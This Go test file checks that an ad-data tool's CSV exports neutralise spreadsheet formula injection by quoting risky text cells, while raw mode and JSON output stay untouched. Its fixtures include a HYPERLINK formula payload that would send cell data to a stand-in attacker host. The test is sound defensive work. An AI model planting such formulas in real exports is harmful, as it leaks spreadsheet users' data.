package queries

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"testing"

	"adharvest/folder"
	"adharvest/sink"
)

// formulaQuery has text cells that spreadsheets would run as formulas, text
// cells that are safe, and numbers, dates and intervals that start with "-"
// (data: never touched).
const formulaQuery = `SELECT
	'=HYPERLINK("https://evil.example/?"&A1, "click")' AS eq,
	'+1+1' AS plus,
	'-2+3' AS minus,
	'@SUM(A1:A9)' AS at,
	chr(9) || '=1+1' AS tab,
	chr(13) || '=1+1' AS cr,
	'safe = 1' AS safe,
	'' AS empty,
	NULL::VARCHAR AS null_text,
	'=x'::ENUM('=x', 'y') AS enum,
	'=x'::BLOB AS blob,
	['=x'] AS list,
	-5 AS int,
	-1.5::DOUBLE AS dbl,
	-0.05::DECIMAL(4,2) AS dec,
	'-170141183460469231731687303715884105728'::HUGEINT AS huge,
	INTERVAL '-1 day' AS iv,
	DATE '-0001-01-01' AS bc_date`

// TestCSVNeutralisesFormulas: in CSV, text cells that start with = + - @ tab
// or carriage return get a leading single quote (OWASP's advice for CSV
// opened in spreadsheets); numbers and other non-text values never do; raw
// output writes every cell as it is.
func TestCSVNeutralisesFormulas(t *testing.T) {
	e := open(t, t.TempDir())
	header := []string{"eq", "plus", "minus", "at", "tab", "cr", "safe", "empty", "null_text", "enum", "blob", "list", "int", "dbl", "dec", "huge", "iv", "bc_date"}
	raw := []string{`=HYPERLINK("https://evil.example/?"&A1, "click")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "safe = 1", "", "", "=x", "=x", `["=x"]`,
		"-5", "-1.5", "-0.05", "-170141183460469231731687303715884105728", "-1 day", "-0001-01-01"}
	safe := append([]string{`'=HYPERLINK("https://evil.example/?"&A1, "click")`, "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1"}, raw[6:]...)
	safe[9], safe[10] = "'=x", "'=x" // ENUM and BLOB values are text too

	for _, tc := range []struct {
		name string
		opts WriteOptions
		want []string
	}{
		{"default", WriteOptions{}, safe},
		{"raw", WriteOptions{RawCSV: true}, raw},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rows, err := e.Query(context.Background(), formulaQuery)
			if err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			if err := WriteWith(&b, "csv", rows, tc.opts); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(recs) != 2 {
				t.Fatalf("%d records", len(recs))
			}
			for i, h := range header {
				if recs[0][i] != h || recs[1][i] != tc.want[i] {
					t.Errorf("column %d: %q = %q, want %q = %q", i, recs[0][i], recs[1][i], h, tc.want[i])
				}
			}
		})
	}
	// The other formats are not for spreadsheets: untouched.
	if got := run(t, e, "json", "SELECT '=1+1' AS f"); got != "[\n  {\"f\":\"=1+1\"}\n]\n" {
		t.Errorf("json: %q", got)
	}
}

// TestExportCSVNeutralisesFormulas: Export's CSV files follow the same rule
// (ExportOptions.RawCSV turns it off); the database keeps the value as it is.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	dir := t.TempDir()
	name := `=HYPERLINK("https://evil.example","x")`
	biz := int64(-1) // a negative number is data
	row := sink.AdRow{AdFields: sink.AdFields{AdID: 1, BusinessName: &name, BusinessID: &biz, VideoURLs: []string{}, ImageURLs: []string{}}, Provenance: prov("2024-06-01T10:00:00Z", "run-1", "s")}
	if err := sink.WriteParquet(folder.New(dir).Part(sink.Ads, "FR", "x", 0), []sink.AdRow{row}); err != nil {
		t.Fatal(err)
	}
	e := open(t, dir)
	for _, tc := range []struct {
		raw  bool
		want string
	}{{false, "'" + name}, {true, name}} {
		out := t.TempDir()
		if _, err := e.Export(context.Background(), ExportOptions{DuckDB: filepath.Join(out, "x.duckdb"), CSVDir: filepath.Join(out, "csv"), RawCSV: tc.raw}); err != nil {
			t.Fatal(err)
		}
		f, err := os.Open(filepath.Join(out, "csv", "ads.csv"))
		if err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(f).ReadAll()
		f.Close()
		if err != nil || len(recs) != 2 {
			t.Fatalf("ads.csv: %v %v", recs, err)
		}
		cell := map[string]string{}
		for i, h := range recs[0] {
			cell[h] = recs[1][i]
		}
		if cell["business_name"] != tc.want || cell["business_id"] != "-1" {
			t.Errorf("raw=%v: business_name %q business_id %q, want %q and -1", tc.raw, cell["business_name"], cell["business_id"], tc.want)
		}
		db := freshDB(t, "ATTACH '"+filepath.Join(out, "x.duckdb")+"' AS x (READ_ONLY)")
		var got string
		if err := db.QueryRow("SELECT business_name FROM x.ads").Scan(&got); err != nil || got != name {
			t.Errorf("database: %q %v, want %q", got, err, name)
		}
	}
}
